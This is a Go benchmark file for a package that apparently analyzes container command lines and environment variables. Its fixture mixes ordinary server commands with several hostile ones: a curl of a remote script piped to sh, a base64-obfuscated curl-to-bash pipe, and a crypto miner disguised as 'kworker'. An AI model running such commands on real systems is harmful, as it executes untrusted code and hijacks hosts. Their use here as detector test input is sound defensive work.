package cmdline

import "testing"

// benchArgv is a realistic mix of container command lines: mostly exec-form servers and jobs,
// some sh -c scripts, a few attacks.
var benchArgv = [][]string{
	{"/app/server", "--port=8080", "--config", "/etc/app/config.yaml"},
	{"nginx", "-g", "daemon off;"},
	{"/docker-entrypoint.sh", "postgres"},
	{"java", "-Xmx512m", "-jar", "/app/app.jar", "--spring.profiles.active=prod"},
	{"python3", "/app/worker.py", "--queue", "default"},
	{"/bin/sh", "-c", "pg_dump -h db -U app app | gzip > /backup/app-$(date +%F).sql.gz && aws s3 cp /backup/ s3://backups/ --recursive"},
	{"/bin/bash", "-c", "set -euo pipefail\nTOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sS --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces/default/pods | jq '.items | length'"},
	{"kubectl", "delete", "pods", "--field-selector=status.phase==Succeeded", "-A"},
	{"/usr/local/bin/redis-server", "--appendonly", "yes"},
	{"sh", "-c", "curl -fsS http://backup-svc.internal/trigger || exit 1"},
	{"node", "/srv/index.js"},
	{"/bin/sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"},
	{"sh", "-c", "until nc -z db 5432; do echo waiting; sleep 2; done"},
	{"/prometheus", "--config.file=/etc/prometheus/prometheus.yml", "--storage.tsdb.path=/prometheus"},
	{"./kworker", "-o", "198.51.100.7:3333", "-u", "x", "--donate-level=1"},
	{"/bin/bash", "-c", "echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | bash"},
}

func BenchmarkAnalyze(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		for _, argv := range benchArgv {
			Analyze(argv)
		}
	}
}

// BenchmarkAnalyzeExecForm is the common case: an exec-form command with no shell.
func BenchmarkAnalyzeExecForm(b *testing.B) {
	argv := []string{"/app/server", "--port=8080", "--config", "/etc/app/config.yaml", "--log-level=info"}
	b.ReportAllocs()
	for b.Loop() {
		Analyze(argv)
	}
}

func BenchmarkAnalyzeEnv(b *testing.B) {
	env := [][2]string{{"LOG_LEVEL", "info"}, {"DATABASE_URL", "postgres://app:secret@db.default.svc:5432/app"},
		{"JAVA_OPTS", "-Xmx512m -XX:+UseG1GC"}, {"PORT", "8080"}, {"POD_NAME", "api-7d9f8-x2"}}
	b.ReportAllocs()
	for b.Loop() {
		for _, e := range env {
			AnalyzeEnv(e[0], e[1])
		}
	}
}
